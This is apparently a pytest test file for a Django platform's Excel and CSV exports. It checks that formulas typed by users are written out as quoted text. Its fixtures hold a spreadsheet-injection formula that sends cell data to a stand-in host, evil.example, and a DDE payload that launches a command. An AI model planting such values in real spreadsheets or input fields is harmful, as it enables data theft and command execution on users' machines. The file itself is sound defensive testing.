"""Every export neutralises formulas: text a user typed (`=HYPERLINK(...)`) is written as literal
text in every Excel sheet and CSV the platform gives out, while figures stay numbers."""

import csv
import io
import pathlib
import re
from decimal import Decimal

import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from binhdang.activities.models import Activity, Commendation
from binhdang.committees.models import Person
from binhdang.core import exports
from binhdang.core.spreadsheets import workbook_bytes
from binhdang.indicators.models import DataValue, Indicator
from binhdang.orgunits.models import OrgUnit
from binhdang.plans.models import Inspection, Plan, Task

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?d="&A1;"Bấm vào đây")'
PACKAGE = pathlib.Path(__file__).resolve().parents[2]


@pytest.fixture
def planted(objects, tree):
    """The province's objects with the attacker's text in every free-text field an export shows."""
    Activity.objects.filter(pk=objects["activity"].pk).update(title=EVIL, note="@SUM(1+1)")
    Commendation.objects.filter(pk=objects["commendation"].pk).update(nominee=EVIL, reason=EVIL)
    Person.objects.filter(memberships__committee=objects["committee"]).update(full_name=EVIL)
    Plan.objects.filter(pk=objects["plan"].pk).update(title=EVIL)
    Task.objects.filter(pk=objects["task"].pk).update(title=EVIL)
    Inspection.objects.filter(pk=objects["inspection"].pk).update(title=EVIL, findings=EVIL)
    OrgUnit.objects.filter(pk=tree["neighbour"].pk).update(name=EVIL)  # a unit without a plan
    indicator = Indicator.objects.filter(owner_unit=None, measure="share").first()
    DataValue.objects.create(
        indicator=indicator,
        unit=tree["province"],
        year=2025,
        numerator=Decimal(1),
        denominator=Decimal(2),
        value=Decimal(50),
        note=EVIL,
    )
    return objects


def _province(o):
    return o["province"].pk


# Every export of the platform, by URL: (name, args, query). `python -m binhdang` has no other.
EXPORTS = [
    ("activities:export_xlsx", lambda o: [_province(o)], {"year": "2026"}),
    ("activities:commendations_xlsx", lambda o: [_province(o)], {}),
    ("committees:export_xlsx", lambda o: [o["committee"].pk], {}),
    ("committees:template", lambda o: [o["committee"].pk], {}),
    ("plans:plans_xlsx", lambda o: [], {"unit": _province}),
    ("plans:tasks_xlsx", lambda o: [], {}),
    ("plans:missing_xlsx", lambda o: [], {"unit": _province, "year": "2026"}),
    ("plans:inspections_xlsx", lambda o: [], {"unit": _province}),
    ("indicators:excel_template", lambda o: [_province(o)], {"year": "2025"}),
    ("indicators:dhis2_export", lambda o: [_province(o), "csv"], {"year": "2025"}),
]


def _cells(name: str, content: bytes) -> list:
    if name.endswith("dhis2_export"):
        return [c for row in csv.reader(io.StringIO(content.decode())) for c in row]
    book = load_workbook(io.BytesIO(content))
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if exports.neutralise(cell.value) is not cell.value:  # kept as typed, as text
                    assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
                cells.append(cell.value)
    return cells


@pytest.mark.parametrize(("name", "args", "query"), EXPORTS, ids=[e[0] for e in EXPORTS])
def test_every_export_writes_typed_formulas_as_text(client, personas, planted, name, args, query):
    client.force_login(personas["province_admin"])
    params = {k: (v(planted) if callable(v) else v) for k, v in query.items()}
    response = client.get(reverse(name, args=args(planted)), params)
    assert response.status_code == 200, response.content[:300]
    content = b"".join(response.streaming_content) if response.streaming else response.content
    cells = _cells(name, content)
    texts = [c for c in cells if isinstance(c, str)]
    planted_text = EVIL  # a workbook keeps it as typed, in a quoted text cell (`_cells`)
    if name.endswith("dhis2_export"):  # a CSV has no cell types: the text itself is quoted
        assert not [t for t in texts if t.startswith(("=", "+", "@", "\t", "\r"))], name
        assert not [t for t in texts if t.startswith("-") and not re.fullmatch(r"-[\d.,]+", t)]
        planted_text = "'" + EVIL
    if "template" not in name or name.startswith("indicators"):
        assert planted_text in texts, f"{name}: the planted text is not in the export"


def test_every_workbook_is_written_through_the_neutraliser():
    """Exports not reachable by a plain URL (the report annex, built by a job) are covered the
    same way: no module saves a workbook itself; all go through `workbook_bytes`."""
    offenders = []
    for path in PACKAGE.rglob("*.py"):
        if "tests" in path.parts or path.name == "spreadsheets.py" and path.parent.name == "core":
            continue
        text = path.read_text()
        if re.search(r"\b(book|workbook|wb)\.save\(", text) or "csv.writer(" in text:
            offenders.append(str(path.relative_to(PACKAGE)))
    assert offenders == ["core/exports.py"], offenders


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+84 90 123 4567 gọi", "'+84 90 123 4567 gọi"),
        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-5", "-5"),  # a figure written as text stays a figure
        ("-1.234,5", "-1.234,5"),
        ("Hội nghị = tập huấn", "Hội nghị = tập huấn"),
        (-5, -5),
        (Decimal("-1.5"), Decimal("-1.5")),
        (None, None),
    ],
)
def test_the_neutraliser(value, written):
    assert exports.neutralise(value) == written


@given(st.text(max_size=30))
def test_an_import_gives_back_exactly_what_the_export_quoted(text):
    written = exports.neutralise(text)
    assert not (written.startswith(exports.FORMULA_STARTS) and written != text)
    assert exports.restore(written) == text


def test_numbers_stay_numbers_in_a_workbook():
    book = Workbook()
    book.active.append([EVIL, -5, 3.5, "-5", "=1+1"])
    sheet = load_workbook(io.BytesIO(workbook_bytes(book))).active
    values = [c.value for c in sheet[1]]
    assert values == [EVIL, -5, 3.5, "-5", "=1+1"]
    assert [c.data_type for c in sheet[1]] == ["s", "n", "n", "s", "s"]
    assert [c.quotePrefix for c in sheet[1]] == [True, False, False, False, True]
